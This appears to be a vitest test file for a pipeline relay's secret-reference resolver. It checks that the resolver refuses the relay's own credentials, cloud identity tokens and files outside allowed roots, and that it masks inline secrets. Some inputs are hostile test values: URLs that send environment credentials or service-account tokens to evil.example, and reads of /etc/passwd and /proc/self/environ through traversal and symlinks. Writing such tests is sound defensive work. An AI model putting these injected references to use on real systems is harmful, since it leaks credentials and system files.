/** References and secrets of pipelines: resolved in this process, in one pass, from where the operator allowed. */
import { chmodSync, mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { z } from "zod";
import { forgetSecretsForTests, scrub } from "../../../../src/base/secrets.ts";
import type { ConnectorDefinition } from "../../../../src/relay/connector.ts";
import { openable } from "../../../../src/relay/pipeline/open.ts";
import type { Pipeline } from "../../../../src/relay/pipeline/pipeline.ts";
import { readPipeline } from "../../../../src/relay/pipeline/read.ts";
import { inlineSecrets, maskSecrets } from "../../../../src/relay/pipeline/secrets.ts";
import { NOTHING, openRow, refusal, row, toStdout } from "./rows.ts";

afterEach(forgetSecretsForTests);

/** A connector with one field of each kind. */
const connector = {
  type: "stdout",
  summary: "For these tests",
  guarantees: { order: "", duplicates: "", acknowledgement: "" },
  config: (zod: typeof z) =>
    zod.strictObject({
      url: zod.string().default(""),
      username: zod.string().optional(),
      sasl_password: zod.string().optional(),
      key_material: zod.string().optional().meta({ secret: true }),
      ca_pem: zod.string().optional(),
      port: zod.number().optional(),
      tls: zod.boolean().optional(),
      brokers: zod.array(zod.string()).optional(),
      signature: zod.strictObject({ secret: zod.string(), secrets: zod.array(zod.string()).optional() }).optional(),
    }),
} satisfies ConnectorDefinition;

async function open(config: Record<string, unknown>, options: Partial<typeof NOTHING> = {}) {
  const pipeline: Pipeline = { ...(await readPipeline(toStdout())), connector: { type: "stdout", config } };
  return openable(pipeline, connector, { ...NOTHING, ...options });
}

const root = () => {
  const directory = mkdtempSync(join(tmpdir(), "pgkeep-roots-"));
  const put = (name: string, text: string, mode = 0o600) => {
    writeFileSync(join(directory, name), text, { mode });
    chmodSync(join(directory, name), mode);
    return join(directory, name);
  };
  return { directory, put };
};

describe("[relay 7.1] a reference", () => {
  it.each(["PGPASSWORD", "DATABASE_URL", "PG_TIDE_POSTGRES_URL", "AWS_SECRET_ACCESS_KEY"])(
    "[R-03] never brings in %s, with which the relay itself connects",
    async (name) => {
      const environment = { [name]: "the-relays-own-credential" };
      for (const config of [
        { url: `https://evil.example/?leak=\${env:${name}}` },
        { sasl_password: `\${ENV:${name}}` },
        { username: `\${env:${name}:-nothing}` },
        { brokers: [`\${env:${name}}`] },
      ]) {
        const error = await refusal(open(config, { environment }));
        expect(error.code).toBe("CONFIG_REFERENCE_UNRESOLVED");
        expect(JSON.stringify(error)).not.toContain("the-relays-own-credential");
      }
    },
  );

  it("stands in any text field, whole or inside of a text, in upper case too", async () => {
    const environment = { USER: "relay-user", PASS: "s3cret-pass", HOST: "broker" };
    const { config } = await open(
      {
        username: "${env:USER}",
        sasl_password: "${ENV:PASS}",
        url: "kafka://${env:USER}:${env:PASS}@${env:HOST}:1",
        brokers: ["${env:HOST}:9092", "b"],
      },
      { environment },
    );
    expect(config).toEqual({
      username: "relay-user",
      sasl_password: "s3cret-pass",
      url: "kafka://relay-user:s3cret-pass@broker:1",
      brokers: ["broker:9092", "b"],
    });
    expect(scrub("said s3cret-pass")).toBe("said [secret]");
  });

  it("of a file gives its text without surrounding white space, and names the file to be watched", async () => {
    const { directory, put } = root();
    const path = put("token", "  abc-token-1 \n\n");
    const pem = put("ca", `-----BEGIN CERTIFICATE-----\n${"A".repeat(70_000)}\n-----END CERTIFICATE-----\n`);
    const opened = await open(
      { sasl_password: `\${file:${path}}`, ca_pem: `\${file:${pem}}` },
      { secretRoots: [directory] },
    );
    expect(opened.config.sasl_password).toBe("abc-token-1");
    expect(opened.config.ca_pem).toContain("A\n-----END");
    expect([...opened.files].sort()).toEqual([pem, path].sort());
  });

  it("may become a number or a switch where the field is one", async () => {
    const environment = { PORT: "5", TLS: "true" };
    expect((await open({ port: "${env:PORT}", tls: "${env:TLS}" }, { environment })).config).toMatchObject({
      port: 5,
      tls: true,
    });
    const error = await refusal(open({ port: "${env:PORT}" }, { environment: { PORT: "secret-canary" } }));
    expect(error.code).toBe("RELAY_PIPELINE_INVALID");
    expect(error.parts.detail).toBe("sink.port: invalid input: expected number, received string");
  });

  it("without value names the reference and the field: not set, empty, an empty file", async () => {
    const { directory, put } = root();
    const empty = put("empty", " \n");
    for (const [text, options] of [
      ["${env:MISSING}", {}],
      ["${env:MISSING}", { environment: { MISSING: "" } }],
      ["${env:MISSING", {}],
      [`\${file:${empty}}`, { secretRoots: [directory] }],
    ] as const) {
      const error = await refusal(open({ username: text }, options));
      expect(error.code).toBe("CONFIG_REFERENCE_UNRESOLVED");
      expect(error.message).toContain('sink.username of pipeline "p"');
    }
  });

  it("may have a default outside of secrets, which is taken as it stands", async () => {
    expect((await open({ username: "${env:U:-guest}" })).config.username).toBe("guest");
    expect((await open({ username: "${env:U:-guest}" }, { environment: { U: "" } })).config.username).toBe("guest");
    expect((await open({ username: "${env:U:-guest}" }, { environment: { U: "me" } })).config.username).toBe("me");
    expect(scrub("guest-user")).toBe("guest-user");
    await refusal(open({ username: "${env:U:-${env:V}}" }, { environment: { V: "v" } }));
    expect((await refusal(open({ sasl_password: "${env:U:-guest-password}" }))).parts.detail).toContain(
      "sink.sasl_password",
    );
  });

  it("is escaped by a second dollar sign", async () => {
    expect((await open({ username: "$${env:HOME}" }, { environment: { HOME: "x" } })).config.username).toBe(
      "${env:HOME}",
    );
  });

  it("[R-04] brings in text that is not looked at again", async () => {
    const { directory, put } = root();
    const path = put("nested", "${env:OTHER}");
    const environment = { A: "${file:/etc/passwd}", OTHER: "other-value" };
    const { config } = await open(
      { username: "${env:A}", sasl_password: `\${file:${path}}` },
      { environment, secretRoots: [directory] },
    );
    expect(config).toMatchObject({ username: "${file:/etc/passwd}", sasl_password: "${env:OTHER}" });
  });

  it.each([
    "kubernetes.io/serviceaccount/token",
    "eks.amazonaws.com/serviceaccount/token",
    "azure/tokens/azure-identity-token",
    "x/..//kubernetes.io/serviceaccount/token",
  ])("[R-03] reads no token that says who the process is: %s", async (path) => {
    const { directory } = root();
    mkdirSync(join(directory, path, ".."), { recursive: true });
    writeFileSync(join(directory, path), "token-of-the-platform", { mode: 0o600 });
    const reference = `\${file:${directory}/${path}}`;
    const error = await refusal(open({ url: `https://evil.example/?${reference}` }, { secretRoots: [directory] }));
    expect(`${error.code} ${error.parts.detail}`).toContain("CONFIG_REFERENCE_UNRESOLVED That is a credential");
  });

  it("[R-03] reads no file outside of the roots, by whatever way it is named", async () => {
    const { directory, put } = root();
    mkdirSync(join(directory, "inside"));
    symlinkSync("/etc/passwd", join(directory, "link"));
    const shared = put("shared", "x-secret", 0o666);
    const paths = [
      "/etc/passwd",
      "/proc/self/environ",
      "relative",
      `${directory}/../../etc/passwd`,
      join(directory, "link"),
      join(directory, "inside"),
      shared,
      "/dev/zero",
    ];
    for (const path of paths) {
      const error = await refusal(open({ username: `\${file:${path}}` }, { secretRoots: [directory] }));
      expect(error.code, path).toBe("CONFIG_REFERENCE_UNRESOLVED");
    }
    expect((await refusal(open({ username: "${file:/etc/hostname}" }))).code).toBe("CONFIG_REFERENCE_UNRESOLVED");
  });

  it("keeps its fingerprint until a value changes", async () => {
    const print = async (value: string) =>
      (await open({ sasl_password: "${env:P}" }, { environment: { P: value } })).fingerprint;
    expect(await print("first-value")).toBe(await print("first-value"));
    expect(await print("first-value")).not.toBe(await print("other-value"));
  });
});

describe("[R-05] a secret in the catalog", () => {
  it.each([
    ["by its name", { sasl_password: "canary-literal" }, "sink.sasl_password"],
    ["by its author's word", { key_material: "canary-literal" }, "sink.key_material"],
    ["inside of another object", { signature: { secret: "canary-literal" } }, "sink.signature.secret"],
    [
      "in a list",
      { signature: { secret: "${env:A}", secrets: ["${env:A}", "canary-literal"] } },
      "sink.signature.secrets.1",
    ],
    ["with a reference beside it", { sasl_password: "canary-literal${env:A}" }, "sink.sasl_password"],
    ["as two references", { sasl_password: "${env:A}${env:A}" }, "sink.sasl_password"],
  ])("keeps the pipeline from starting: %s", async (_name, config, field) => {
    const error = await refusal(open(config, { environment: { A: "value-of-a" } }));
    expect(error.code).toBe("RELAY_PIPELINE_INVALID");
    expect(error.parts.detail).toContain(`${field}: holds a secret`);
    expect(JSON.stringify([error.message, error.parts])).not.toContain("canary");
  });

  it("is taken when the operator allows it, with a warning, and hidden like any other", async () => {
    const { config, warnings } = await open({ sasl_password: "canary-literal" }, { allowInlineSecrets: true });
    expect(config.sasl_password).toBe("canary-literal");
    expect(warnings).toEqual(["sink.sasl_password holds a secret that everybody who may read the catalog can read"]);
  });

  it("inside of a URL is taken as pg_tide does, with a warning, and hidden", async () => {
    const { warnings } = await open({ url: "amqp://user:canary-pass@host/" });
    expect(warnings).toEqual([expect.stringContaining("sink.url holds a secret")]);
    expect(scrub("canary-pass")).toBe("[secret]");
    expect((await open({ url: "amqp://user:${env:P}@host/" }, { environment: { P: "pass-value" } })).warnings).toEqual(
      [],
    );
  });

  it("is found and masked for whoever lists pipelines, references left as they are", () => {
    const config = {
      url: "nats://u:canary@h:1",
      password: "canary",
      signing_secret: "${env:S}",
      secrets: ["canary", "${file:/run/secrets/x}"],
      webhook_url: "https://hooks.example/canary",
      nested: { api_key: 12345678 },
      subject: "x",
    };
    expect(inlineSecrets(config)).toEqual([
      { path: "url", where: "url" },
      { path: "password", where: "field" },
      { path: "secrets.0", where: "field" },
      { path: "webhook_url", where: "field" },
      { path: "nested.api_key", where: "field" },
    ]);
    const inherited = { constructor: "x", toString: { secret: "canary" } };
    expect(inlineSecrets(inherited, connector.config(z))).toEqual([{ path: "toString.secret", where: "field" }]);
    const masked = maskSecrets(config);
    expect(JSON.stringify(masked)).not.toMatch(/canary|12345678/);
    expect(masked).toMatchObject({ url: "nats://u:[secret]@h:1", signing_secret: "${env:S}", subject: "x" });
  });
});

describe("[relay 6] the key of encrypted payloads", () => {
  it("is read from pg_tide's key_path, inside of the roots only", async () => {
    const { directory, put } = root();
    const path = put("enc.key", `${"ab".repeat(32)}\n`);
    const config = toStdout({ encryption: { key_path: path } });
    const opened = await openRow(config, { secretRoots: [directory] });
    expect(opened.transforms).toEqual({ decrypt: { key: "ab".repeat(32) } });
    expect(opened.files).toEqual([path]);
    expect((await refusal(openRow(config))).code).toBe("CONFIG_REFERENCE_UNRESOLVED");
  });

  it("[R-05] is not taken from the catalog", async () => {
    expect((await refusal(openRow(toStdout({ encryption: { key: "ab".repeat(32) } })))).parts.detail).toContain(
      "encryption.key: holds a secret",
    );
  });
});

it("leaves expressions alone: only configuration holds references", async () => {
  const { transforms } = await openRow(
    row({ outbox: "o", sink_type: "stdout", config: {}, transform: { payload: "{a: '${env:HOME}'}" } }),
  );
  expect(transforms).toEqual({ payload: "{a: '${env:HOME}'}" });
});
